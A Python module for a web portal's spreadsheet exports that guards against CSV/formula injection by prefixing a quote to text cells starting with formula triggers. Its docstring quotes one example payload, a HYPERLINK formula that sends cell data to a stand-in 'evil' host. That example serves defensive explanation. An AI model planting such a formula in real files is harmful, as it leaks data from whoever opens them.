"""Spreadsheet cell hygiene shared by every CSV and XLSX the portal writes.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheet
programs skip before reading a formula) is run as a formula when a person opens the file: a model name such as
``=HYPERLINK("http://evil/?"&A1)`` would leak data or run commands. Such text is prefixed with a single quote,
which spreadsheet programs read as "this is text" (OWASP's CSV injection advice).
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: text that would start a formula gets a leading quote.

    Anything that is not text (numbers, dates, None) is returned as it is: a negative number is a number, not a
    formula.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_row(values: list[Any]) -> list[Any]:
    """Every cell of a row through :func:`neutralise` (inlined: this runs for every cell of a 100,000-row export)."""
    return ["'" + value if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) else value for value in values]
